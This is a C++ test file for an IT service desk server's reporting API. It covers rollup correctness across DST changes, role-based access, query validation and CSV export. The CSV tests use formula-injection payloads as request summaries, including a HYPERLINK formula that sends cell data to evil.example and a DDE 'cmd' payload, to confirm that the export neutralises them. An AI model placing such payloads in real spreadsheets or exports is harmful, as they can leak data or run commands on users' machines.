// Reports over real HTTP and a real SQLite file (issue 14):
// - the rollups equal a recomputation from the raw rows after a random history (reassignments,
//   group moves, Pending spans, resolutions, reopenings, cancellations, surveys), re-timed onto
//   DST switches and local midnights of the reporting zone, changed again after that, and rebuilt
//   from scratch; the API's daily figures agree with counts taken straight from the requests;
// - who may read which reports; bad queries get 400 naming the parameter; CSV downloads.
#include <doctest/doctest.h>

#include <algorithm>
#include <map>
#include <random>
#include <set>
#include <string>
#include <vector>

#include "server/app/reports.h"
#include "server/storage/sqlite.h"
#include "shared/api/url.h"
#include "shared/domain/kpi.h"
#include "test_support.h"

using namespace spoc::test;
using spoc::Timestamp;
using spoc::storage::Database;
using spoc::storage::OpenMode;
namespace kpi = spoc::kpi;

namespace {

constexpr const char* kZone = "America/New_York";

std::string Path(int id, const char* rest = "") { return "/api/v1/requests/" + std::to_string(id) + rest; }

json Draft(int kind, const std::string& summary) {
    if (kind == 0) {
        json d = ValidLaptopDraft();
        d["summary"] = summary;
        return d;
    }
    if (kind == 1) return json{{"catalog_item_id", 2}, {"summary", summary}, {"urgency", "high"}, {"values", {{"location", "home"}}}};
    return json{{"catalog_item_id", 3}, {"summary", summary}, {"values", {{"new_desk", "HQ3-A14"}}}};
}

// One random step of a request's life, by whoever would take it; refused moves are fine (the
// server's lifecycle rules decide), the history is whatever was accepted.
void RandomStep(httplib::Client& cli, const Session& requester, const Session& agent, const std::vector<int>& agent_ids,
                int id, std::mt19937& rng) {
    const json r = GetOk(cli, agent, Path(id));
    const std::string status = r["status"];
    const json base = {{"base_version", r["version"]}};
    auto patch = [&](const Session& who, json body) {
        body.update(base);
        (void)PatchRequest(cli, who, id, body);
    };
    const int pick = std::uniform_int_distribution<int>(0, 9)(rng);
    if (status == "resolved") {
        if (pick < 3) (void)PostJson(cli, requester, Path(id, "/comments"), R"({"body":"This didn't fix it."})");
        else if (pick < 5) patch(requester, {{"status", "closed"}});
        else
            (void)cli.Put(Path(id, "/survey"), AuthHeaders(requester),
                          json{{"score", 1 + pick % 5}, {"effort", pick % 2 ? 0 : 1 + pick % 5}}.dump(), "application/json");
        return;
    }
    if (status == "closed" || status == "cancelled") return;
    switch (pick) {
        case 0: patch(agent, {{"status", "in_progress"}}); break;
        case 1: patch(agent, {{"status", "pending"}, {"pending_reason", pick % 2 ? "vendor" : "requester"}}); break;
        case 2:
        case 3: patch(agent, {{"status", "resolved"}, {"resolution_note", "Fixed it."}}); break;
        case 4: patch(agent, {{"assignee_id", agent_ids[std::uniform_int_distribution<std::size_t>(0, agent_ids.size() - 1)(rng)]}}); break;
        case 5: patch(agent, {{"group_id", std::uniform_int_distribution<int>(1, 4)(rng)}}); break;
        case 6: patch(agent, {{"impact", pick % 3 ? "high" : "low"}, {"urgency", "medium"}}); break;
        case 7: patch(requester, {{"status", "cancelled"}}); break;
        case 8: (void)PostJson(cli, agent, Path(id, "/comments"), R"({"body":"Looking into it."})"); break;
        default: patch(agent, {{"status", "in_progress"}}); break;
    }
}

// ---- Re-timing: each request's instants move, in order, onto an anchor (a DST switch or a local
// midnight of the reporting zone, give or take) with a random step between them.
struct Retime {
    std::map<Timestamp, Timestamp> to;
    Timestamp operator()(Timestamp t) const { return t > 0 ? to.at(t) : t; }
};

std::vector<Timestamp> Anchors(Timestamp now) {
    // The last US fall-back (first Sunday of November, 06:00 UTC) and spring-forward (second
    // Sunday of March, 07:00 UTC) before now, and local midnights (05:00 UTC in winter).
    spoc::TimeZoneRule zone;
    REQUIRE(spoc::FindTimeZone(kZone, &zone));
    const int year = spoc::UtcToLocal(zone, now).date.year;
    auto sunday = [](int y, int month, int nth) {
        std::int64_t d = spoc::DaysFromCivil(y, month, 1);
        while (spoc::WeekdayFromDays(d) != 6) ++d;
        return d + 7 * (nth - 1);
    };
    std::vector<Timestamp> out;
    for (int y : {year - 1, year}) {
        const Timestamp fall = sunday(y, 11, 1) * spoc::kMsPerDay + 6 * spoc::kMsPerHour;
        const Timestamp spring = sunday(y, 3, 2) * spoc::kMsPerDay + 7 * spoc::kMsPerHour;
        if (fall < now - 30 * spoc::kMsPerDay && fall > now - 400 * spoc::kMsPerDay) out.push_back(fall);
        if (spring < now - 30 * spoc::kMsPerDay && spring > now - 400 * spoc::kMsPerDay) out.push_back(spring);
    }
    const std::int64_t today = now / spoc::kMsPerDay;
    for (int back : {3, 10, 45}) out.push_back((today - back) * spoc::kMsPerDay + 5 * spoc::kMsPerHour);
    return out;
}

void RetimeHistory(Database& db, std::mt19937& rng, Timestamp now) {
    const std::vector<Timestamp> anchors = Anchors(now);
    std::vector<std::int64_t> ids;
    {
        auto q = db.Prepare("SELECT id FROM requests ORDER BY id");
        REQUIRE(q.ok());
        while (*q->Step()) ids.push_back(q->Int(0));
    }
    const Timestamp steps[] = {7 * spoc::kMsPerMinute, 3 * spoc::kMsPerHour, 26 * spoc::kMsPerHour};
    for (std::int64_t id : ids) {
        std::set<Timestamp> seen;
        auto collect = [&](const std::string& sql) {
            auto q = db.Prepare(sql);
            REQUIRE_MESSAGE(q.ok(), sql);
            q->Bind(1, id);
            while (*q->Step())
                for (int c = 0; c < 8; ++c)
                    if (!q->IsNull(c) && q->Int(c) > 0) seen.insert(q->Int(c));
        };
        collect("SELECT created_at, updated_at, first_response_at, resolved_at, closed_at, 0, 0, 0 FROM requests WHERE id = ?1");
        collect("SELECT paused_at, resumed_at, 0, 0, 0, 0, 0, 0 FROM request_pauses WHERE request_id = ?1");
        collect("SELECT at, 0, 0, 0, 0, 0, 0, 0 FROM request_history WHERE request_id = ?1");
        collect("SELECT answered_at, updated_at, 0, 0, 0, 0, 0, 0 FROM surveys WHERE request_id = ?1");
        collect("SELECT created_at, 0, 0, 0, 0, 0, 0, 0 FROM comments WHERE request_id = ?1");
        Retime rt;
        Timestamp t = anchors[std::uniform_int_distribution<std::size_t>(0, anchors.size() - 1)(rng)] +
                      std::uniform_int_distribution<int>(-90, 90)(rng) * spoc::kMsPerMinute;
        const Timestamp step = steps[std::uniform_int_distribution<int>(0, 2)(rng)];
        for (Timestamp old : seen) {
            rt.to[old] = t;
            t += step + std::uniform_int_distribution<int>(0, 59)(rng) * spoc::kMsPerMinute;
        }
        auto q = db.Prepare(
            "UPDATE requests SET created_at = ?2, updated_at = ?3, first_response_at = ?4, resolved_at = ?5, closed_at = ?6, "
            "response_due_at = 0, resolution_due_at = 0 WHERE id = ?1");
        REQUIRE(q.ok());
        auto r = db.Prepare("SELECT created_at, updated_at, first_response_at, resolved_at, closed_at FROM requests WHERE id = ?1");
        REQUIRE(r.ok());
        r->Bind(1, id);
        REQUIRE(*r->Step());
        q->Bind(1, id).Bind(2, rt(r->Int(0))).Bind(3, rt(r->Int(1))).Bind(4, rt(r->Int(2))).Bind(5, rt(r->Int(3))).Bind(6, rt(r->Int(4)));
        REQUIRE(q->Run().ok());
        // Pauses: keyed by their start, so replaced as a set.
        std::vector<std::pair<Timestamp, Timestamp>> pauses;
        {
            auto p = db.Prepare("SELECT paused_at, resumed_at FROM request_pauses WHERE request_id = ?1");
            REQUIRE(p.ok());
            p->Bind(1, id);
            while (*p->Step()) pauses.emplace_back(rt(p->Int(0)), rt(p->Int(1)));
        }
        ExecSql(db, "DELETE FROM request_pauses WHERE request_id = " + std::to_string(id));
        for (const auto& [from, until] : pauses) {
            auto ins = db.Prepare("INSERT INTO request_pauses (request_id, paused_at, resumed_at) VALUES (?1, ?2, ?3)");
            REQUIRE(ins.ok());
            ins->Bind(1, id).Bind(2, from).Bind(3, until);
            REQUIRE(ins->Run().ok());
        }
        for (const char* sql : {"SELECT id, at FROM request_history WHERE request_id = ?1",
                                "SELECT id, created_at FROM comments WHERE request_id = ?1"}) {
            std::vector<std::pair<std::int64_t, Timestamp>> rows;
            auto s = db.Prepare(sql);
            REQUIRE(s.ok());
            s->Bind(1, id);
            while (*s->Step()) rows.emplace_back(s->Int(0), rt(s->Int(1)));
            const bool history = std::string(sql).find("history") != std::string::npos;
            for (const auto& [row, at] : rows) {
                auto u = db.Prepare(history ? "UPDATE request_history SET at = ?2 WHERE id = ?1"
                                            : "UPDATE comments SET created_at = ?2 WHERE id = ?1");
                REQUIRE(u.ok());
                u->Bind(1, row).Bind(2, at);
                REQUIRE(u->Run().ok());
            }
        }
        auto s = db.Prepare("SELECT answered_at, updated_at FROM surveys WHERE request_id = ?1");
        REQUIRE(s.ok());
        s->Bind(1, id);
        if (*s->Step()) {
            const Timestamp a = rt(s->Int(0)), b = rt(s->Int(1));
            auto u = db.Prepare("UPDATE surveys SET answered_at = ?2, updated_at = ?3 WHERE request_id = ?1");
            REQUIRE(u.ok());
            u->Bind(1, id).Bind(2, a).Bind(3, b);
            REQUIRE(u->Run().ok());
        }
    }
}

// ---- The brute force: every request's fact from the raw rows (read here, not by the server's
// storage code), summed per (day, dimensions).
using CellKey = std::pair<std::int64_t, kpi::Dims>;

kpi::RequestRecord RawRecord(Database& db, std::int64_t id) {
    static const std::map<std::int64_t, std::string> kCategory = {{1, "Hardware"}, {2, "Network"}, {3, "Workplace"}};
    kpi::RequestRecord r;
    auto q = db.Prepare(
        "SELECT type, status, priority, IFNULL(group_id, 0), IFNULL(assignee_id, 0), department, catalog_item_id, sla_policy, "
        "created_at, first_response_at, resolved_at, closed_at, IFNULL(resolved_by, 0) FROM requests WHERE id = ?1");
    REQUIRE(q.ok());
    q->Bind(1, id);
    REQUIRE(*q->Step());
    REQUIRE(spoc::ParseRequestType(q->Text(0), &r.type));
    REQUIRE(spoc::ParseStatus(q->Text(1), &r.status));
    r.priority = static_cast<spoc::Priority>(q->Int(2));
    r.dims.group_id = q->Int(3);
    r.dims.agent_id = q->Int(4);
    r.dims.department = q->Text(5);
    r.dims.category = kCategory.at(q->Int(6));
    r.sla_policy = q->Text(7);
    r.created_at = q->Int(8);
    r.first_response_at = q->Int(9);
    r.resolved_at = q->Int(10);
    r.closed_at = q->Int(11);
    r.resolved_by = q->Int(12);
    auto p = db.Prepare("SELECT paused_at, resumed_at FROM request_pauses WHERE request_id = ?1 ORDER BY paused_at");
    REQUIRE(p.ok());
    p->Bind(1, id);
    while (*p->Step()) r.pauses.emplace_back(p->Int(0), p->Int(1));
    auto h = db.Prepare("SELECT field, old_value, new_value FROM request_history WHERE request_id = ?1 ORDER BY id");
    REQUIRE(h.ok());
    h->Bind(1, id);
    while (*h->Step()) r.history.push_back({h->Text(0), h->Text(1), h->Text(2)});
    auto s = db.Prepare("SELECT score, effort, answered_at FROM surveys WHERE request_id = ?1");
    REQUIRE(s.ok());
    s->Bind(1, id);
    if (*s->Step()) {
        r.survey_score = static_cast<int>(s->Int(0));
        r.survey_effort = static_cast<int>(s->Int(1));
        r.survey_at = s->Int(2);
    }
    return r;
}

struct Recomputed {
    std::map<CellKey, kpi::Cell> cells;
    std::map<kpi::Dims, std::int64_t> open;
};

Recomputed BruteForce(Database& db, const kpi::ReportSetup& setup) {
    Recomputed out;
    auto q = db.Prepare("SELECT id FROM requests ORDER BY id");
    REQUIRE(q.ok());
    std::vector<std::int64_t> ids;
    while (*q->Step()) ids.push_back(q->Int(0));
    for (std::int64_t id : ids) {
        const kpi::Fact f = kpi::FactOf(RawRecord(db, id), setup);
        for (const auto& [day, cell] : kpi::Contributions(f)) out.cells[{day, f.dims}].Add(cell);
        if (f.done_day == kpi::kNoDay) out.open[f.dims] += 1;
    }
    return out;
}

Recomputed Stored(Database& db) {
    Recomputed out;
    std::string cols;
    for (int i = 0; i < kpi::kCellWidth; ++i) cols += ", " + kpi::ColumnName(i);
    auto q = db.Prepare("SELECT day, group_id, agent_id, department, category, priority, type, location_id" + cols +
                        " FROM report_daily");
    REQUIRE(q.ok());
    while (*q->Step()) {
        kpi::Cell c;
        for (int i = 0; i < kpi::kCellWidth; ++i) c.v[i] = q->Int(8 + i);
        if (c.Empty()) continue;  // a cell whose contributions all moved out
        const kpi::Dims d{q->Int(1), q->Int(2), q->Text(3), q->Text(4), static_cast<int>(q->Int(5)),
                          static_cast<int>(q->Int(6)), q->Int(7)};
        out.cells[{q->Int(0), d}] = c;
    }
    auto o = db.Prepare("SELECT group_id, agent_id, department, category, priority, type, location_id, open FROM report_backlog WHERE open <> 0");
    REQUIRE(o.ok());
    while (*o->Step()) {
        const kpi::Dims d{o->Int(0), o->Int(1), o->Text(2), o->Text(3), static_cast<int>(o->Int(4)),
                          static_cast<int>(o->Int(5)), o->Int(6)};
        out.open[d] = o->Int(7);
    }
    return out;
}

void CheckSame(const Recomputed& stored, const Recomputed& brute) {
    CHECK(stored.cells.size() == brute.cells.size());
    int differing = 0;
    for (const auto& [key, cell] : brute.cells) {
        auto it = stored.cells.find(key);
        if (it == stored.cells.end() || !(it->second == cell)) {
            if (++differing <= 3) {
                std::string what = "day " + std::to_string(key.first) + " group " + std::to_string(key.second.group_id);
                if (it == stored.cells.end()) what += ": missing";
                else
                    for (int i = 0; i < kpi::kCellWidth; ++i)
                        if (it->second.v[i] != cell.v[i])
                            what += " " + kpi::ColumnName(i) + " " + std::to_string(it->second.v[i]) + " != " + std::to_string(cell.v[i]);
                MESSAGE(what);
            }
        }
    }
    CHECK(differing == 0);
    CHECK(stored.open == brute.open);
}

// Stored rollups and the brute force read in one snapshot, after housekeeping ran now (the
// scheduled run then finds nothing left to change).
Recomputed CheckConsistent(TestServer& server, const kpi::ReportSetup& setup) {
    REQUIRE(server.server().RunHousekeepingAt(NowSeconds() * 1000).ok());
    auto db = OpenDb(server, OpenMode::read_only);
    ExecSql(*db, "BEGIN");
    const Recomputed stored = Stored(*db);
    Recomputed brute = BruteForce(*db, setup);
    ExecSql(*db, "COMMIT");
    CheckSame(stored, brute);
    return brute;
}

std::string Date(std::int64_t day) { return spoc::FormatDate(spoc::CivilFromDays(day)); }

}  // namespace

TEST_CASE("reports: the rollups equal a recomputation from the raw rows, across re-timing, new changes and a rebuild") {
    TestServer server([](spoc::ServerConfig& c) { c.report_time_zone = kZone; });
    auto cli = server.Client();
    const Session emma = SignIn(cli, "emma");
    const Session liam = SignIn(cli, "liam");
    const Session ava = SignIn(cli, "ava");
    const Session root = SignIn(cli, "root");
    const std::vector<int> agents = {ava.user["id"].get<int>(), root.user["id"].get<int>()};
    std::mt19937 rng(14);

    std::vector<int> ids;
    for (int i = 0; i < 36; ++i) {
        const Session& who = i % 3 ? emma : liam;
        ids.push_back(CreateRequestOk(cli, who, Draft(i % 3, "Report fixture " + std::to_string(i)))["id"]);
        const int steps = std::uniform_int_distribution<int>(0, 7)(rng);
        for (int s = 0; s < steps; ++s) RandomStep(cli, who, ava, agents, ids.back(), rng);
    }
    auto setup = spoc::app::MakeReportSetup(kZone);
    REQUIRE(setup.ok());
    {
        CheckConsistent(server, *setup);  // kept job by job over HTTP
        CHECK(CountRows(server, "SELECT COUNT(*) FROM report_dirty") == 0);
        CHECK(CountRows(server, "SELECT COUNT(*) FROM surveys") > 0);
        CHECK(CountRows(server, "SELECT COUNT(*) FROM request_history WHERE field = 'status' AND old_value = 'resolved' "
                                "AND new_value <> 'closed'") > 0);  // some were reopened
    }

    // Spread the history over DST switches and local midnights: the changed requests are marked,
    // and the next start moves their contributions.
    const Timestamp now = NowSeconds() * 1000;
    server.Restart([&] {
        auto db = OpenDb(server, OpenMode::read_write);
        ExecSql(*db, "BEGIN IMMEDIATE");
        RetimeHistory(*db, rng, now);
        ExecSql(*db, "COMMIT");
    });
    CheckConsistent(server, *setup);
    // More changes on top, at today's time.
    for (int i = 0; i < 24; ++i) RandomStep(cli, i % 3 ? emma : liam, ava, agents, ids[std::uniform_int_distribution<std::size_t>(0, ids.size() - 1)(rng)], rng);
    const Recomputed brute = CheckConsistent(server, *setup);
    auto db = OpenDb(server, OpenMode::read_only);

    // The API's daily figures against counts taken straight from the requests.
    std::int64_t first = INT64_MAX, last = INT64_MIN;
    for (const auto& [key, cell] : brute.cells) {
        first = std::min(first, key.first);
        last = std::max(last, key.first);
    }
    const json summary = GetOk(cli, root, "/api/v1/reports/summary?from=" + Date(first - 1) + "&to=" + Date(last));
    REQUIRE(summary["days"].size() == static_cast<std::size_t>(last - first + 2));
    std::map<std::int64_t, std::int64_t> created, resolved, backlog_delta;
    std::int64_t satisfied = 0, answers = 0;
    {
        auto q = db->Prepare("SELECT created_at, status, resolved_at, closed_at FROM requests");
        REQUIRE(q.ok());
        while (*q->Step()) {
            const std::int64_t c = kpi::LocalDay(setup->zone, q->Int(0));
            created[c] += 1;
            backlog_delta[c] += 1;
            const std::string status = q->Text(1);
            const bool was_resolved = (status == "resolved" || status == "closed") && q->Int(2) > 0;
            if (was_resolved) resolved[kpi::LocalDay(setup->zone, q->Int(2))] += 1;
            if (was_resolved) backlog_delta[kpi::LocalDay(setup->zone, q->Int(2))] -= 1;
            else if (status == "closed" || status == "cancelled") backlog_delta[kpi::LocalDay(setup->zone, q->Int(3))] -= 1;
        }
        auto s = db->Prepare("SELECT score FROM surveys");
        REQUIRE(s.ok());
        while (*s->Step()) {
            answers += 1;
            satisfied += s->Int(0) >= 4;
        }
    }
    std::int64_t backlog = 0;
    for (std::int64_t day = first - 1; day <= last; ++day) {
        backlog += backlog_delta[day];
        const json& d = summary["days"][static_cast<std::size_t>(day - first + 1)];
        INFO("day ", Date(day));
        CHECK(d["date"] == Date(day));
        CHECK(d["counters"]["created"] == created[day]);
        CHECK(d["counters"]["resolved"] == resolved[day]);
        CHECK(d["backlog"] == backlog);
    }
    CHECK(summary["open_now"] == backlog);
    const auto csat = std::find_if(summary["kpis"].begin(), summary["kpis"].end(), [](const json& k) { return k["key"] == "csat"; });
    REQUIRE(csat != summary["kpis"].end());
    CHECK((*csat)["num"] == satisfied);
    CHECK((*csat)["den"] == answers);
    db.reset();

    // From scratch (what --rebuild-reports and a new reporting zone do): the same cells.
    server.Restart([&] {
        auto w = OpenDb(server, OpenMode::read_write);
        ExecSql(*w, "DELETE FROM report_settings");  // as if the zone had changed
    });
    const Recomputed rebuilt = CheckConsistent(server, *setup);
    CHECK(rebuilt.cells == brute.cells);
}

TEST_CASE("reports: admins see everything, agents their own groups, employees nothing") {
    TestServer server;
    auto cli = server.Client();
    const Session emma = SignIn(cli, "emma");
    const Session ava = SignIn(cli, "ava");
    const Session root = SignIn(cli, "root");
    for (int i = 0; i < 6; ++i) CreateRequestOk(cli, emma, Draft(i % 3, "Role fixture " + std::to_string(i)));
    const json hr = CreateRequestOk(cli, emma, Draft(2, "A confidential matter"));
    PatchRequestOk(cli, root, hr["id"], {{"base_version", hr["version"]}, {"group_id", 3}});
    const std::string routes[] = {"/api/v1/reports/summary", "/api/v1/reports/breakdown?by=group", "/api/v1/reports/heatmap",
                                  "/api/v1/reports/summary?format=csv"};
    for (const std::string& route : routes) {
        INFO(route);
        auto anonymous = cli.Get(route);
        REQUIRE(anonymous);
        CHECK(anonymous->status == 401);
        auto employee = Get(cli, emma, route);
        REQUIRE(employee);
        CHECK(employee->status == 403);
        CHECK(ErrorCodeOf(employee) == "forbidden");
        auto admin = Get(cli, root, route);
        REQUIRE(admin);
        CHECK(admin->status == 200);
        auto agent = Get(cli, ava, route);
        REQUIRE(agent);
        CHECK(agent->status == 200);
    }
    // ava works IT Service Desk, Network and Facilities, not HR Operations (group 3).
    const json all = GetOk(cli, root, "/api/v1/reports/breakdown?by=group");
    const json mine = GetOk(cli, ava, "/api/v1/reports/breakdown?by=group");
    std::set<std::string> all_groups, my_groups;
    for (const json& row : all["rows"]) all_groups.insert(row["key"].get<std::string>());
    for (const json& row : mine["rows"]) my_groups.insert(row["key"].get<std::string>());
    CHECK(all_groups.count("3") == 1);
    CHECK(my_groups.count("3") == 0);
    CHECK_FALSE(my_groups.empty());
    for (const std::string& g : my_groups) CHECK(all_groups.count(g) == 1);
    auto other = Get(cli, ava, "/api/v1/reports/summary?group=3");
    REQUIRE(other);
    CHECK(other->status == 403);
    auto own = Get(cli, ava, "/api/v1/reports/summary?group=1");
    REQUIRE(own);
    CHECK(own->status == 200);
    // An agent's unfiltered summary is the admin's summary over the agent's groups; KB deflections
    // and walk-up visits have no group, so she sees the desk's (the admin's group filter leaves
    // them out).
    const json a = GetOk(cli, ava, "/api/v1/reports/summary");
    const json b = GetOk(cli, root, "/api/v1/reports/summary?group=1,2,4");
    json grouped = json::array(), desk = json::array();
    for (const json& k : a["kpis"]) {
        const std::string key = k["key"];
        (key.rfind("deflection", 0) == 0 || key.rfind("walkup", 0) == 0 ? desk : grouped).push_back(k);
    }
    CHECK(grouped == b["kpis"]);
    CHECK(desk.size() == 7);
    CHECK(a["ageing"] == b["ageing"]);
    CHECK(a["days"] == b["days"]);
}

TEST_CASE("reports: bad queries are 400 naming the parameter; CSV is RFC 4180 with a BOM") {
    TestServer server;
    auto cli = server.Client();
    const Session root = SignIn(cli, "root");
    const Session emma = SignIn(cli, "emma");
    CreateRequestOk(cli, emma, Draft(1, "VPN keeps dropping, \"again\", =cmd|' /C calc'!A0"));
    const std::pair<std::string, std::string> bad[] = {
        {"/api/v1/reports/summary?from=2026-13-01", "from"},
        {"/api/v1/reports/summary?to=yesterday", "to"},
        {"/api/v1/reports/summary?from=2026-11-02&to=2026-11-01", "from"},
        {"/api/v1/reports/summary?from=2020-01-01&to=2026-11-01", "from"},
        {"/api/v1/reports/summary?group=1,x", "group"},
        {"/api/v1/reports/summary?group=1,", "group"},
        {"/api/v1/reports/summary?agent=-3", "agent"},
        {"/api/v1/reports/summary?priority=9", "priority"},
        {"/api/v1/reports/summary?type=problem", "type"},
        {"/api/v1/reports/summary?department=%1B%5B31m", "department"},
        {"/api/v1/reports/summary?format=xml", "format"},
        {"/api/v1/reports/breakdown?by=weather", "by"},
    };
    for (const auto& [route, field] : bad) {
        INFO(route);
        auto res = Get(cli, root, route);
        REQUIRE(res);
        CHECK(res->status == 400);
        CHECK(Body(res)["error"]["field"] == field);
    }
    auto daily = Get(cli, root, "/api/v1/reports/summary?format=csv&from=2026-01-01&to=2026-01-03");
    REQUIRE(daily);
    CHECK(daily->status == 200);
    CHECK(daily->get_header_value("Content-Type").rfind("text/csv", 0) == 0);
    CHECK(daily->get_header_value("Content-Disposition").find("spoc-daily-2026-01-01-2026-01-03.csv") != std::string::npos);
    CHECK(daily->body.rfind("\xEF\xBB\xBF" "date,backlog,created,resolved,", 0) == 0);
    CHECK(daily->body.find("\r\n2026-01-02,0,0,") != std::string::npos);
    CHECK(std::count(daily->body.begin(), daily->body.end(), '\n') == 4);  // header + 3 days
    auto groups = Get(cli, root, "/api/v1/reports/breakdown?by=category&format=csv");
    REQUIRE(groups);
    INFO(groups->body);
    // Every JSON row appears as a CSV line starting key,label,open_now,median.
    const json rows = GetOk(cli, root, "/api/v1/reports/breakdown?by=category")["rows"];
    REQUIRE(rows.size() >= 2);
    for (const json& row : rows) {
        std::string line = "\r\n" + row["key"].get<std::string>() + "," + row["label"].get<std::string>() + ",";
        line += std::to_string(row["open_now"].get<std::int64_t>());
        line += ",";
        if (!row["median_ttr_ms"].is_null()) line += std::to_string(row["median_ttr_ms"].get<std::int64_t>());
        line += ",";
        CHECK(groups->body.find(line) != std::string::npos);
    }
    CHECK(std::count(groups->body.begin(), groups->body.end(), '\n') == static_cast<long>(rows.size()) + 1);
}

TEST_CASE("reports: a bar's queue lists exactly the requests the bar counts, scoped like the report") {
    TestServer server;
    auto cli = server.Client();
    const Session root = SignIn(cli, "root");
    const Session ava = SignIn(cli, "ava");
    const Session emma = SignIn(cli, "emma");
    const std::vector<int> agents = {ava.user["id"].get<int>(), root.user["id"].get<int>()};
    std::mt19937 rng(41);
    std::vector<int> ids;
    for (int i = 0; i < 30; ++i) {
        ids.push_back(CreateRequestOk(cli, emma, Draft(i % 3, "Slice fixture " + std::to_string(i)))["id"]);
        if (i % 4 == 0) PatchRequestOk(cli, root, ids.back(), {{"base_version", 1}, {"group_id", 3}});  // HR: not ava's
        for (int s = 0; s < 5; ++s) RandomStep(cli, emma, ava, agents, ids.back(), rng);
    }
    // Spread over weeks, so resolutions run late (breached) and days differ.
    const Timestamp now = NowSeconds() * 1000;
    server.Restart([&] {
        auto db = OpenDb(server, OpenMode::read_write);
        ExecSql(*db, "BEGIN IMMEDIATE");
        RetimeHistory(*db, rng, now);
        // Some resolutions twelve days after creation: late for every priority.
        ExecSql(*db, "UPDATE requests SET resolved_at = created_at + 12 * 86400000 WHERE resolved_at > 0 AND created_at < " +
                      std::to_string(now - 20 * spoc::kMsPerDay));
        ExecSql(*db, "COMMIT");
    });
    REQUIRE(server.server().RunHousekeepingAt(now).ok());
    const json summary = GetOk(cli, root, "/api/v1/reports/summary?from=2025-06-01");
    const std::string period = "from=2025-06-01&to=" + summary["query"]["to"].get<std::string>();
    const json rows = GetOk(cli, root, "/api/v1/reports/breakdown?by=category&" + period)["rows"];
    REQUIRE(rows.size() >= 3);
    auto slice_total = [&](const Session& who, const std::string& kind, const std::string& rq) {
        const json page = GetOk(cli, who, "/api/v1/queue?report=" + kind + "&rq=" + spoc::api::PercentEncode(rq) + "&page_size=100");
        return page["total"].get<std::int64_t>();
    };
    std::int64_t breached_seen = 0;
    for (const json& row : rows) {
        const std::string key = row["key"].get<std::string>();
        if (key.empty()) continue;
        INFO(key);
        const std::string rq = period + "&category=" + spoc::api::PercentEncode(key);
        CHECK(slice_total(root, "created", rq) == row["counters"]["created"].get<std::int64_t>());
        CHECK(slice_total(root, "resolved", rq) == row["counters"]["resolved"].get<std::int64_t>());
        const std::int64_t breached = row["counters"]["resolution_breached"].get<std::int64_t>();
        CHECK(slice_total(root, "breached", rq) == breached);
        breached_seen += breached;
    }
    CHECK(breached_seen > 0);  // the demo has late resolutions, so the check above bites
    // One day's point: created that day.
    for (const json& day : summary["days"]) {
        const std::string date = day["date"].get<std::string>();
        if (day["counters"]["created"].get<std::int64_t>() == 0) continue;
        CHECK(slice_total(root, "created", "from=" + date + "&to=" + date) == day["counters"]["created"].get<std::int64_t>());
        break;
    }
    // An agent's slice covers her groups, as her report does.
    const json mine = GetOk(cli, ava, "/api/v1/reports/summary?" + period);
    std::int64_t created = 0;
    for (const json& day : mine["days"]) created += day["counters"]["created"].get<std::int64_t>();
    CHECK(created > 0);
    CHECK(slice_total(ava, "created", period) == created);
    CHECK(slice_total(root, "created", period) > created);
    auto other = Get(cli, ava, "/api/v1/queue?report=created&rq=" + spoc::api::PercentEncode(period + "&group=3"));
    REQUIRE(other);
    CHECK(other->status == 403);
    // Bad slices are 400s naming the parameter.
    const std::pair<std::string, std::string> bad[] = {
        {"/api/v1/queue?report=late&rq=" + spoc::api::PercentEncode(period), "report"},
        {"/api/v1/queue?report=created", "rq"},
        {"/api/v1/queue?report=created&rq=" + spoc::api::PercentEncode("from=2026-01-01"), "rq"},
        {"/api/v1/queue?report=created&rq=" + spoc::api::PercentEncode(period + "&priority=0"), "priority"},
    };
    for (const auto& [route, field] : bad) {
        INFO(route);
        auto res = Get(cli, root, route);
        REQUIRE(res);
        CHECK(res->status == 400);
        CHECK(Body(res)["error"]["field"] == field);
    }
}

TEST_CASE("queue CSV export: streamed in batches, every row, hostile summaries neutralised, staff only") {
    TestServer server;
    auto cli = server.Client();
    const Session root = SignIn(cli, "root");
    const Session emma = SignIn(cli, "emma");
    const std::vector<std::string> hostile = {
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
        "  =1+1 with leading blanks", "＝1+1 full-width", "Line one, \"quoted\"", "Ünïcödé 日本語 ok"};
    for (const std::string& s : hostile) CreateRequestOk(cli, emma, Draft(1, s));
    // Enough rows to cross the export's batches of 1,000.
    for (int i = 0; i < 1100; ++i) CreateRequestOk(cli, emma, Draft(i % 3, "Bulk row " + std::to_string(i)));

    auto res = Get(cli, root, "/api/v1/queue?view=open&format=csv");
    REQUIRE(res);
    CHECK(res->status == 200);
    CHECK(res->get_header_value("Content-Type").rfind("text/csv", 0) == 0);
    CHECK(res->get_header_value("Content-Disposition").find("spoc-queue.csv") != std::string::npos);
    CHECK(res->get_header_value("Transfer-Encoding") == "chunked");
    const std::string& body = res->body;
    REQUIRE(body.rfind("\xEF\xBB\xBF" "number,type,status,priority,summary,", 0) == 0);
    const json page = GetOk(cli, root, "/api/v1/queue?view=open&page_size=1");
    const long records = std::count(body.begin(), body.end(), '\n');  // no summary holds a newline
    CHECK(records == page["total"].get<long>() + 1);
    CHECK(records > 1100);
    // Each hostile summary starts its cell with a quote mark; none starts a cell bare.
    CHECK(body.find(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",") != std::string::npos);
    CHECK(body.find(",'+1+cmd|' /C calc'!A0,") != std::string::npos);
    CHECK(body.find(",'-2+3,") != std::string::npos);
    CHECK(body.find(",'@SUM(A1:A9),") != std::string::npos);
    CHECK(body.find(",'=1+1 with leading blanks,") != std::string::npos);  // the server trims summaries
    CHECK(body.find(",'＝1+1 full-width,") != std::string::npos);
    CHECK(body.find(",\"Line one, \"\"quoted\"\"\",") != std::string::npos);
    CHECK(body.find(",Ünïcödé 日本語 ok,") != std::string::npos);
    for (const char* bare : {",=HYPERLINK", ",+1+cmd", ",-2+3", ",@SUM"}) CHECK(body.find(bare) == std::string::npos);
    // Ids ascend: the walk never repeats or skips a batch boundary.
    std::vector<std::string> numbers;
    for (std::size_t at = body.find("\r\n") + 2; at < body.size(); at = body.find("\r\n", at) + 2)
        numbers.push_back(body.substr(at, body.find(',', at) - at));
    CHECK(std::is_sorted(numbers.begin(), numbers.end(), [](const std::string& a, const std::string& b) {
        return std::stoll(a.substr(3)) < std::stoll(b.substr(3));
    }));
    CHECK(std::set<std::string>(numbers.begin(), numbers.end()).size() == numbers.size());
    // The filters narrow the file as they narrow the view.
